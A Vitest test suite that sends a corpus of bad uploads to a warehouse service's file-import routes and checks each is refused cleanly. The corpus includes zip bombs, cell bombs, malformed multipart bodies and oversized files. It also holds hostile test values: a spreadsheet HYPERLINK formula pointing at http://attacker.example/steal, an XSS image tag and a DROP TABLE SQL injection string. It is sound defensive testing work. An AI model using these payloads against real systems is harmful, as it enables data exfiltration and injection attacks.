import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { sql } from 'kysely';
import { MAX_UPLOAD_BYTES, ORDER_UPLOAD_INVALID_TYPE, STYLE_UPLOAD_INVALID_TYPE, invalidFileTypeMessage } from '@wh/contracts';
import { fixture } from '../../../../test/fixtures.ts';
import { cellBomb, passwordProtectedWorkbook, randomBytes, workbook, zipBomb } from '../platform/upload-samples.ts';
import { UPLOAD_MESSAGES } from '../platform/uploads.ts';
import { startTestApp, type Client, type TestApp } from '../testing.ts';

// A corpus of bad uploads against every upload route. Each file gets a clear error in the spec's words, or is
// imported correctly; the service stays up after each; a refused file appends no event at all.
let t: TestApp;
let manager: Client;

beforeAll(async () => {
  t = await startTestApp({ config: { READ_YOUR_WRITES_TIMEOUT_MS: 100 } });
  manager = await t.asAdmin();
  // The catalogue, so that files naming known styles can be imported.
  const seeded = await manager.upload('/api/files/upload/shopify-inventory', 'shopify-products.csv', fixture('styles/shopify-products.csv'));
  expect(seeded.status, JSON.stringify(seeded.body)).toBe(200);
}, 300_000);

afterAll(() => t?.stop());

interface Route {
  url: string;
  // What the route takes: workbooks as well as CSV, or CSV only.
  workbooks: boolean;
  invalidType: string;
  header: string[];
  // One valid row; `n` makes rows distinct where the route needs it.
  row: (n: number) => string[];
  // One row every reader of the route refuses, with the answer that names it.
  badRow: string[];
  badRowMessage: string;
  // A file with nothing to import: the orders upload answers with its own result as 422, the others 400.
  refusedStatus: number;
  // A workbook whose cells are formulas with cached values, and what the import must hold: the values.
  formulas: { rows: unknown[][]; contains: string[] } | { csv: string; contains: string[] };
}

const formula = (f: string, v: string | number) => ({ t: typeof v === 'number' ? 'n' : 's', v, f });
const HYPERLINK = 'HYPERLINK("http://attacker.example/steal","Wrap Dress")';

const ROUTES: Route[] = [
  {
    url: '/api/files/upload/orders',
    workbooks: true,
    invalidType: ORDER_UPLOAD_INVALID_TYPE,
    header: ['Order #', 'Item', 'SKU', 'Value', 'is Fulfilled'],
    row: (n) => [`#B${n}`, 'Wrap Dress', 'DR1000-6-BEIGE', '10.00', 'FALSE'],
    badRow: ['', '', 'DR1000-6-BEIGE', '1', 'FALSE'],
    badRowMessage: 'File validation failed: Row 2: Missing required fields: Order #, Item',
    refusedStatus: 422,
    formulas: {
      rows: [['Order #', 'Item', 'SKU', 'Value', 'is Fulfilled'], ['#F1', formula(HYPERLINK, 'Wrap Dress'), 'DR1000-6-BEIGE', formula('1+1', 2), 'FALSE']],
      contains: ['"Wrap Dress"', '#F1'],
    },
  },
  {
    url: '/api/files/upload/shopify-inventory',
    workbooks: false,
    invalidType: STYLE_UPLOAD_INVALID_TYPE,
    header: ['Handle', 'Title', 'Option1 Name', 'Option1 Value', 'Option2 Name', 'Option2 Value', 'Variant SKU'],
    row: (n) => [`style-zz${n}`, 'Wrap Dress', 'Size', '8', 'Color', 'Red', `ZZ${n}-8-RED`],
    badRow: ['style-zz1', '', 'Size', '8', 'Color', 'Red', 'ZZ1-8-RED'],
    badRowMessage: 'File validation failed: Row 2: Missing required fields: Title',
    refusedStatus: 400,
    // CSV has no formulas: a cell starting with = is text and is kept as that text (exports neutralise it).
    formulas: { csv: `Handle,Title,Variant SKU\nstyle-fx1,"=${HYPERLINK.replace(/"/g, '""')}",FX1-8-RED\n`, contains: ['=HYPERLINK('] },
  },
  {
    url: '/api/files/upload/shopify-stock',
    workbooks: false,
    invalidType: invalidFileTypeMessage(['csv']),
    header: ['Title', 'SKU', 'On hand'],
    // A stock file is known by its rows: each n another quantity, so each file is another delivery.
    row: (n) => ['Wrap Dress', 'DR1000-6-BEIGE', String((n % 1000) + 1)],
    badRow: ['Wrap Dress', 'DR1000-6-BEIGE', 'x'],
    badRowMessage: 'File validation failed: Row 2: Quantity must be a whole number (got "x")',
    refusedStatus: 400,
    formulas: { csv: `Title,SKU,On hand\n"=${HYPERLINK.replace(/"/g, '""')}",DR1000-6-BEIGE,3\n`, contains: ['DR1000-6-BEIGE'] },
  },
  {
    url: '/api/files/upload/manual-stock',
    workbooks: true,
    invalidType: invalidFileTypeMessage(['xlsx', 'xls']),
    header: ['DATE', 'ITEM CODE', 'COLOR', 'SIZE', 'QTY', 'GATEPASS NUMBER'],
    row: (n) => ['01/02/2026', 'DR1000', 'Beige', '6', '2', `GP-${n}`],
    badRow: ['01/02/2026', 'DR1000', 'Beige', '6', 'x', 'GP-1'],
    badRowMessage: 'File validation failed: Row 2: Quantity must be greater than 0',
    refusedStatus: 400,
    formulas: {
      rows: [['DATE', 'ITEM CODE', 'COLOR', 'SIZE', 'QTY', 'GATEPASS NUMBER'], ['01/02/2026', 'DR1000', 'Beige', '6', formula('1+1', 2), formula('HYPERLINK("http://attacker.example","GP-77")', 'GP-77')]],
      contains: ['"GP-77"', '"quantity":2'],
    },
  },
  {
    url: '/api/files/upload/bin-allocation',
    workbooks: true,
    invalidType: invalidFileTypeMessage(['xlsx', 'xls', 'csv']),
    header: ['Bin Number', 'Style Code', 'Color', 'Size', 'Quantity'],
    row: () => ['A-1-1', 'DR1000', 'Beige', '6', '1'],
    badRow: ['A-1-1', 'NOPE1', 'Beige', '6', '1'],
    badRowMessage: 'File validation failed: Row 2: Unknown style code NOPE1',
    refusedStatus: 400,
    formulas: {
      rows: [['Bin Number', 'Style Code', 'Color', 'Size', 'Quantity'], ['A-7-1', 'DR1000', 'Beige', '6', formula('1+1', 2)]],
      contains: ['"A-7-1"', '"delta":2'],
    },
  },
];

const csvOf = (rows: string[][]) => rows.map((r) => r.join(',')).join('\n') + '\n';

// Many short rows, written as the route's CSV.
function manyRows(route: Route, count: number, row: (n: number) => string[]): string {
  const lines = [route.header.join(',')];
  for (let n = 1; n <= count; n++) lines.push(row(n).join(','));
  return lines.join('\n') + '\n';
}

interface Refusal {
  status: number;
  message: string;
}

interface Case {
  name: string;
  file: (route: Route) => { filename: string; content: Buffer | string };
  expect: (route: Route) => Refusal;
}

const TYPE_REFUSED = (route: Route): Refusal => ({ status: 415, message: route.invalidType });
const workbookOnly = (refusal: Refusal) => (route: Route) => (route.workbooks ? refusal : TYPE_REFUSED(route));
const COLUMNS_REFUSED: Refusal = { status: 422, message: 'The file has 10000 columns; at most 1000 can be read.' };
// The route's own columns padded to 10,000 in all.
const wide = (r: Route) => [...r.header, ...Array.from({ length: 10_000 - r.header.length }, (_, i) => `Column ${i}`)];
const padded = (r: Route) => [...r.row(1), ...Array.from({ length: 10_000 - r.header.length }, () => 'x')];
let bomb: Buffer | null = null;
let liar: Buffer | null = null;
let cells: Buffer | null = null;

const CASES: Case[] = [
  {
    name: 'random bytes named .xlsx',
    file: () => ({ filename: 'random.xlsx', content: randomBytes(64 * 1024) }),
    expect: workbookOnly({ status: 422, message: 'Failed to parse Excel file' }),
  },
  {
    name: 'random bytes named .csv',
    file: () => ({ filename: 'random.csv', content: randomBytes(64 * 1024) }),
    expect: () => ({ status: 422, message: 'Failed to parse CSV file' }),
  },
  {
    name: 'an empty file',
    file: (r) => ({ filename: r.workbooks ? 'empty.xlsx' : 'empty.csv', content: '' }),
    expect: () => ({ status: 400, message: 'The selected file is empty. Please choose a file with data.' }),
  },
  {
    name: 'a header-only CSV',
    file: (r) => ({ filename: 'header.csv', content: csvOf([r.header]) }),
    expect: (r) => ({ status: r.refusedStatus, message: 'File is empty or contains no valid data' }),
  },
  {
    name: 'a header-only workbook',
    file: (r) => ({ filename: 'header.xlsx', content: workbook([r.header]) }),
    expect: (r) => workbookOnly({ status: r.refusedStatus, message: 'File is empty or contains no valid data' })(r),
  },
  {
    name: 'a file of 11 MB',
    // Valid rows all the way: only the size is wrong.
    file: (r) => ({ filename: 'big.csv', content: manyRows(r, Math.ceil((11 * 1024 * 1024) / (r.row(1).join(',').length + 1)), r.row) }),
    expect: () => ({ status: 413, message: 'File size must be less than 10MB' }),
  },
  {
    name: 'a password-protected workbook',
    file: () => ({ filename: 'locked.xlsx', content: passwordProtectedWorkbook() }),
    expect: workbookOnly({ status: 422, message: 'File is password-protected' }),
  },
  {
    name: 'a zip bomb (300 MB unpacked)',
    file: () => ({ filename: 'bomb.xlsx', content: (bomb ??= zipBomb()) }),
    expect: workbookOnly({ status: 422, message: 'The workbook unpacks to more than 100 MB. Please save a smaller file.' }),
  },
  {
    // Its central directory says 1 KB: the reader stops inflating at the budget all the same.
    name: 'a zip bomb that understates what it unpacks to',
    file: () => ({ filename: 'liar.xlsx', content: (liar ??= zipBomb(300 * 1024 * 1024, 1024)) }),
    expect: workbookOnly({ status: 422, message: UPLOAD_MESSAGES.tooBigUnpacked }),
  },
  {
    // A well-formed workbook of 300 KB whose sheet is 95 MB of the smallest cells, inside the unpacked budget.
    name: 'a workbook of 6,600,000 tiny cells',
    file: () => ({ filename: 'cells.xlsx', content: (cells ??= cellBomb(95 * 1024 * 1024)) }),
    expect: workbookOnly({ status: 422, message: UPLOAD_MESSAGES.tooManyCells }),
  },
  {
    name: 'a CSV grid past the cell budget (1,000 columns, 5,001 short rows)',
    file: (r) => ({ filename: 'grid.csv', content: `${wide(r).slice(0, 1000).join(',')}\n${'x\n'.repeat(5001)}` }),
    expect: () => ({ status: 422, message: UPLOAD_MESSAGES.tooManyCells }),
  },
  {
    name: '10,000 columns (CSV)',
    file: (r) => ({ filename: 'wide.csv', content: csvOf([wide(r), padded(r)]) }),
    expect: () => COLUMNS_REFUSED,
  },
  {
    name: '10,000 columns (workbook)',
    file: (r) => ({ filename: 'wide.xlsx', content: workbook([wide(r), padded(r)]) }),
    expect: workbookOnly(COLUMNS_REFUSED),
  },
  {
    name: '200,000 rows every one of which is wrong',
    file: (r) => ({ filename: 'wrong.csv', content: manyRows(r, 200_000, () => r.badRow) }),
    expect: (r) => ({ status: r.refusedStatus, message: r.badRowMessage }),
  },
  {
    // Short rows, so that the file stays under 10 MB: the cap is counted while reading, before any row is checked.
    name: '250,001 rows, past the row cap',
    file: (r) => ({ filename: 'huge.csv', content: manyRows(r, 250_001, () => ['x']) }),
    expect: () => ({ status: 422, message: 'The file has more than 250,000 rows. Please split it into smaller files.' }),
  },
];

async function eventCount(): Promise<number> {
  const { rows } = await sql<{ n: number }>`select count(*)::int as n from events`.execute(t.database.db);
  return rows[0]!.n;
}

async function eventsAfter(count: number): Promise<string> {
  const { rows } = await sql<{ data: unknown }>`select data from events order by global_position offset ${count}`.execute(t.database.db);
  return JSON.stringify(rows.map((r) => r.data));
}

async function stillUp() {
  const health = await t.anonymous.get('/api/health');
  expect(health.status).toBe(200);
}

describe.each(ROUTES)('bad uploads to $url', (route) => {
  it.each(CASES)('$name', async (c) => {
    const wanted = c.expect(route);
    const { filename, content } = c.file(route);
    const before = await eventCount();
    const res = await manager.upload(route.url, filename, content);
    expect({ status: res.status, message: res.body.message }).toEqual(wanted);
    expect(res.body.error.code).toBeTypeOf('string');
    // A refusal of a big file stays a readable answer, not a dump of every row.
    expect(JSON.stringify(res.body).length).toBeLessThan(200_000);
    expect(await eventCount()).toBe(before);
    await stillUp();
  });

  it('formulas are read as their values (workbooks) or as text (CSV), never evaluated', async () => {
    const before = await eventCount();
    const f = route.formulas;
    const res = 'rows' in f ? await manager.upload(route.url, 'formulas.xlsx', workbook(f.rows)) : await manager.upload(route.url, 'formulas.csv', f.csv);
    expect(res.status, JSON.stringify(res.body).slice(0, 500)).toBe(200);
    const appended = await eventsAfter(before);
    for (const text of f.contains) expect(appended).toContain(text);
    if ('rows' in f) {
      expect(appended).not.toContain('HYPERLINK');
      expect(appended).not.toContain('attacker.example');
    }
    await stillUp();
  });
});

// Multipart requests the parser cannot read: a 400 that says so, never a 500.
const BOUNDARY = 'wh-test-boundary';
const MALFORMED: { name: string; contentType: string; body: string; message: string }[] = [
  {
    name: 'no boundary in the content type',
    contentType: 'multipart/form-data',
    body: `--${BOUNDARY}\r\nContent-Disposition: form-data; name="file"; filename="a.csv"\r\n\r\nSKU\r\n--${BOUNDARY}--\r\n`,
    message: UPLOAD_MESSAGES.notMultipart,
  },
  {
    name: 'a body that ends inside the file',
    contentType: `multipart/form-data; boundary=${BOUNDARY}`,
    body: `--${BOUNDARY}\r\nContent-Disposition: form-data; name="file"; filename="a.csv"\r\n\r\nSKU,On hand\r\nA,1\r\n`,
    message: UPLOAD_MESSAGES.notMultipart,
  },
  {
    name: 'a body that is not a form',
    contentType: `multipart/form-data; boundary=${BOUNDARY}`,
    body: 'hello',
    message: UPLOAD_MESSAGES.noFile,
  },
  {
    // RFC 5987 encoding lets a file name carry a NUL, which the events that name the file could not store.
    name: 'a file name holding a NUL',
    contentType: `multipart/form-data; boundary=${BOUNDARY}`,
    body: `--${BOUNDARY}\r\nContent-Disposition: form-data; name="file"; filename*=utf-8''a%00b.csv\r\n\r\nSKU,On hand\r\nA,1\r\n--${BOUNDARY}--\r\n`,
    message: UPLOAD_MESSAGES.badFilename,
  },
];

describe.each(ROUTES)('malformed multipart requests to $url', (route) => {
  it.each(MALFORMED)('$name', async (c) => {
    const before = await eventCount();
    const res = await t.app.inject({
      method: 'POST',
      url: route.url,
      headers: { authorization: `Bearer ${manager.token}`, 'content-type': c.contentType },
      payload: c.body,
    });
    expect({ status: res.statusCode, message: res.json().message }).toEqual({ status: 400, message: c.message });
    expect(await eventCount()).toBe(before);
    await stillUp();
  });
});

// A cell PostgreSQL cannot store (NUL; an unpaired UTF-16 surrogate) makes its row a row error; the file's other rows
// are imported.
describe.each(ROUTES)('cells no database can store, sent to $url', (route) => {
  const unstorable = (n: number, odd: string) => {
    const cells = [...route.row(n)];
    cells[1] = `${cells[1]!.slice(0, 2)}${odd}${cells[1]!.slice(2)}`;
    return cells;
  };
  const rowError = { row: 3, error: `Column 2 (${route.header[1]}) contains a character that cannot be saved (a NUL or an unpaired surrogate). Please remove it and upload again.` };

  async function expectRowRefused(filename: string, content: Buffer | string) {
    const before = await eventCount();
    const res = await manager.upload(route.url, filename, content);
    expect(res.status, JSON.stringify(res.body).slice(0, 500)).toBe(200);
    expect(res.body.data.errors).toEqual([rowError]);
    expect(res.body.data.processed_records ?? res.body.data.total_orders).toBe(1);
    const appended = await eventsAfter(before);
    expect(appended).not.toMatch(/\\u0000|\\ud8|\\udc/i);
    await stillUp();
  }

  it('a NUL in a CSV cell', async () => {
    await expectRowRefused('nul.csv', csvOf([route.header, route.row(910_001), unstorable(910_002, '\u0000')]));
  });

  it.runIf(route.workbooks)('a lone surrogate in a workbook cell', async () => {
    await expectRowRefused('surrogate.xls', workbook([route.header, route.row(910_003), unstorable(910_004, '\uD800')], 'biff8'));
  });
});

// A code the code rules refuse (markup, SQL, spaces) makes its row a row error on every route; the other rows import
// and nothing of the odd code is recorded.
const CODE_COLUMN: Record<string, number> = {
  '/api/files/upload/orders': 2,
  '/api/files/upload/shopify-inventory': 6,
  '/api/files/upload/shopify-stock': 1,
  '/api/files/upload/manual-stock': 1,
  '/api/files/upload/bin-allocation': 1,
};
describe.each(ROUTES)('codes the code rules refuse, sent to $url', (route) => {
  it.each(['<IMG SRC=X ONERROR=ALERT(1)>', "X'; DROP TABLE events; --", 'DR 1000'])('%s', async (code) => {
    const odd = [...route.row(920_002)];
    odd[CODE_COLUMN[route.url]!] = `"${code.replace(/"/g, '""')}"`;
    const before = await eventCount();
    const res = await manager.upload(route.url, 'codes.csv', csvOf([route.header, route.row(920_001 + code.length), odd]));
    expect(res.status, JSON.stringify(res.body).slice(0, 500)).toBe(200);
    expect(res.body.data.errors).toHaveLength(1);
    expect(res.body.data.errors[0].row).toBe(3);
    expect(res.body.data.processed_records ?? res.body.data.total_orders).toBe(1);
    expect(await eventsAfter(before)).not.toContain(code.toUpperCase());
  });
});

describe('a 200,000-row order file within the row cap', () => {
  it('is imported whole: 50,000 orders, 200,000 items, each once', async () => {
    const lines = ['Order #,Item,SKU,Value,is Fulfilled'];
    for (let n = 1; n <= 50_000; n++) {
      for (const sku of ['DR1000-6-BEIGE', 'DR1000-8-BEIGE', 'TP1001-8-NAVY', 'TP1001-10-NAVY']) lines.push(`#H${n},Dress,${sku},1,FALSE`);
    }
    const csv = lines.join('\n') + '\n';
    expect(csv.length).toBeLessThan(MAX_UPLOAD_BYTES);
    const res = await manager.upload('/api/files/upload/orders', 'orders-200k.csv', csv);
    expect(res.status, JSON.stringify(res.body).slice(0, 500)).toBe(200);
    const { rows } = await sql<{ orders: number; items: number }>`
      select count(*)::int as orders, sum(jsonb_array_length(data->'items'))::int as items
        from events where event_type = 'OrderImported' and data->>'order_number' like '#H%'`.execute(t.database.db);
    expect(rows[0]).toEqual({ orders: 50_000, items: 200_000 });
    await stillUp();
  }, 300_000);
});
